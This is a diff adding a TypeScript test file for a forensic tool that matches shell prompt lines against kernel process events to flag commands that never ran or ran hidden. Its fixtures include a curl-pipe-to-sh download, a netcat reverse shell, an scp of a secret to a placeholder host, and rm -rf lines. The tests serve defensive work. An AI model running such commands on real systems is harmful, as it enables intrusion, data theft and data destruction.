@@ -1,0 +1,136 @@
+import fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { deriveCommands, programsIn } from './commands.js';
+import type { Ran, ShownLine } from './commands.js';
+
+const PROMPT = 'deploy@web-3:~$';
+const line = (offset: number, text: string): ShownLine => ({ place: `1.${offset}`, offset, text });
+const shell: readonly Ran[] = [
+  { kind: 'fork', offset: 0, pid: 1, child: 100 },
+  { kind: 'exec', offset: 5, pid: 100, parent: 1, path: '/bin/bash', text: '-bash' },
+];
+/** A program that `parent` starts, and its end. */
+const run = (offset: number, pid: number, text: string, lasts = 50, how = '0', parent = 100): readonly Ran[] => [
+  { kind: 'fork', offset: offset - 2, pid: parent, child: pid },
+  { kind: 'exec', offset, pid, parent, path: `/usr/bin/${text.split(' ')[0]!}`, text },
+  { kind: 'exit', offset: offset + lasts, pid, how },
+];
+const inOrder = (...events: readonly (readonly Ran[])[]): readonly Ran[] => events.flat().sort((a, b) => a.offset - b.offset);
+
+test('a command is a line behind a prompt and what the shell started for it, with how that ended', () => {
+  const lines = [
+    line(1_000, `${PROMPT} ls -la /srv`),
+    line(2_000, 'total 24'),
+    line(5_000, 'deploy@web-3:/srv$ cd /tmp'),
+    line(6_000, 'deploy@web-3:/tmp$ make 2>&1 | tee log'),
+    line(6_500, 'make: *** [all] Error 1'),
+  ];
+  const events = inOrder(shell, run(1_100, 101, 'ls -la /srv'), run(6_050, 102, 'make', 900, '2'), run(6_060, 103, 'tee log', 950));
+  const { commands, hidden } = deriveCommands(lines, events, 9_000);
+  expect(commands.map(({ text, verdict, known, ran, exit, lasted }) => [text, verdict, known, ran, exit, lasted])).toEqual([
+    ['ls -la /srv', 'ran', 'kernel', ['ls -la /srv'], '0', 50],
+    ['cd /tmp', 'builtin', 'screen', [], null, null],
+    ['make 2>&1 | tee log', 'ran', 'kernel', ['make', 'tee log'], '0', 960],
+  ]);
+  expect(commands.map(({ at, until, prompt }) => [at, until, prompt])).toEqual([
+    [1_000, 5_000, PROMPT],
+    [5_000, 6_000, 'deploy@web-3:/srv$'],
+    [6_000, 9_000, 'deploy@web-3:/tmp$'],
+  ]);
+  expect(hidden).toEqual([]);
+});
+
+test('a line that imitates a prompt was shown and never ran; an alias ran by another name', () => {
+  const lines = [
+    line(1_000, `${PROMPT} ll`),
+    line(3_000, `${PROMPT} printf '...'`),
+    line(3_010, `${PROMPT} rm -rf /var/backups`),
+    line(8_000, `${PROMPT} FOO=1 nosuchprogram --now`),
+  ];
+  const { commands } = deriveCommands(lines, inOrder(shell, run(1_100, 101, 'ls -l'), run(900, 99, 'id')), 9_000);
+  // Learned from no line of `ll`, whose program has another name: the prompt is not known yet.
+  expect(commands).toEqual([]);
+  const learned = deriveCommands(
+    [line(500, `${PROMPT} ls`), ...lines],
+    inOrder(shell, run(600, 98, 'ls'), run(1_100, 101, 'ls -l')),
+    9_000,
+  );
+  expect(learned.commands.map(({ text, verdict }) => [text, verdict])).toEqual([
+    ['ls', 'ran'],
+    ['ll', 'ran'],
+    ["printf '...'", 'builtin'],
+    ['rm -rf /var/backups', 'never_ran'],
+    ['FOO=1 nosuchprogram --now', 'never_ran'],
+  ]);
+});
+
+test('what ran while no line named it is told, with what started it and how often', () => {
+  const lines = [line(1_000, `${PROMPT} curl -s http://203.0.113.9/x | sh`), line(20_000, `${PROMPT} id`)];
+  const events = inOrder(
+    shell,
+    run(1_100, 101, 'curl -s http://203.0.113.9/x', 700),
+    run(1_110, 102, 'sh', 900),
+    run(1_500, 103, 'nc -e /bin/sh 203.0.113.9 4444', 60_000, 'SIGKILL', 102),
+    run(1_600, 104, 'sleep 1', 10, '0', 102),
+    run(1_700, 105, 'sleep 1', 10, '0', 102),
+    run(20_100, 106, 'id'),
+  );
+  const { commands, hidden } = deriveCommands(lines, events, 30_000);
+  expect(hidden.map(({ text, by, times, direct, inside, at, last }) => [text, by, times, direct, inside, at, last])).toEqual([
+    ['nc -e /bin/sh 203.0.113.9 4444', 'sh', 1, false, '1.1000', 1_500, 1_500],
+    ['sleep 1', 'sh', 2, false, '1.1000', 1_600, 1_700],
+  ]);
+  expect(commands[0]).toMatchObject({ programs: 5, ran: ['curl -s http://203.0.113.9/x', 'sh'] });
+});
+
+test('typed without an echo, a program of the shell itself is told as such', () => {
+  const lines = [line(1_000, `${PROMPT} ls`), line(20_000, `${PROMPT}`)];
+  const events = inOrder(shell, run(1_100, 101, 'ls'), run(15_000, 102, 'scp secret evil:', 9_000, '1'));
+  const { hidden, commands } = deriveCommands(lines, events, 30_000);
+  expect(commands).toMatchObject([{ text: 'ls', ran: ['ls'], exit: '0', lasted: 50 }]);
+  expect(hidden).toMatchObject([{ text: 'scp secret evil:', direct: true, by: '-bash' }]);
+});
+
+test('where kernel events are missing, or there are none, nothing is said to have never run', () => {
+  const lines = [line(1_000, `${PROMPT} ls`), line(5_000, `${PROMPT} rm -rf /srv`), line(90_000, `${PROMPT} reboot`)];
+  const gap: Ran = { kind: 'gap', offset: 4_000, until: 6_000 };
+  const verdicts = (events: readonly Ran[]): string[] => deriveCommands(lines, events, 99_000).commands.map(({ verdict }) => verdict);
+  expect(verdicts(inOrder(shell, run(1_100, 101, 'ls')))).toEqual(['ran', 'never_ran', 'never_ran']);
+  expect(verdicts(inOrder(shell, run(1_100, 101, 'ls'), [gap]))).toEqual(['ran', 'unknown', 'never_ran']);
+  expect(verdicts([])).toEqual(['unknown', 'unknown', 'unknown']);
+});
+
+test.each([
+  ['a | b && c; d || e &', ['a', 'b', 'c', 'd', 'e']],
+  ['X=1 Y=2 /usr/bin/env python3 -c "import os; os.system(\'x\')"', ['env']],
+  ['echo $(id -u) `whoami` # ls', ['echo', 'id', 'whoami']],
+  ['> /tmp/x', []],
+  ['! grep -q x y', ['grep']],
+  ["'; rm -rf /'", ['x']],
+])('the programs of %s', (text, programs) => expect(programsIn(text)).toEqual(programs));
+
+test('whatever stands on a screen and in the kernel, it ends, in bounds, and says of no command both that it ran and that it did not', () => {
+  const texts = fc.oneof(fc.string({ maxLength: 200 }), fc.constantFrom(`${PROMPT} ls`, '$ $ $ $', '#'.repeat(4_000), '\u202e$ \u0000'));
+  const rows = fc.array(fc.tuple(fc.nat(20), fc.nat(9_999), fc.nat(5), fc.nat(5), texts), { maxLength: 60 });
+  fc.assert(
+    fc.property(rows, fc.array(fc.tuple(fc.nat(9_999), texts), { maxLength: 60 }), (events, lines) => {
+      const ran = events.map(([kind, offset, pid, other, text]): Ran =>
+        kind < 6
+          ? { kind: 'fork', offset, pid, child: other }
+          : kind < 16
+            ? { kind: 'exec', offset, pid, parent: other, path: `/bin/${text}`, text: kind < 9 ? 'bash' : text }
+            : { kind: 'exit', offset, pid, how: text },
+      );
+      const { commands, hidden } = deriveCommands(
+        lines.map(([offset, text], i) => ({ place: `1.${i}`, offset, text })),
+        [...ran].sort((a, b) => a.offset - b.offset),
+        10_000,
+      );
+      for (const { ran: programs, verdict, at, until } of commands) {
+        expect(verdict === 'ran').toBe(programs.length > 0);
+        expect(until).toBeGreaterThanOrEqual(at);
+      }
+      expect(hidden.length).toBeLessThanOrEqual(ran.length);
+    }),
+  );
+});
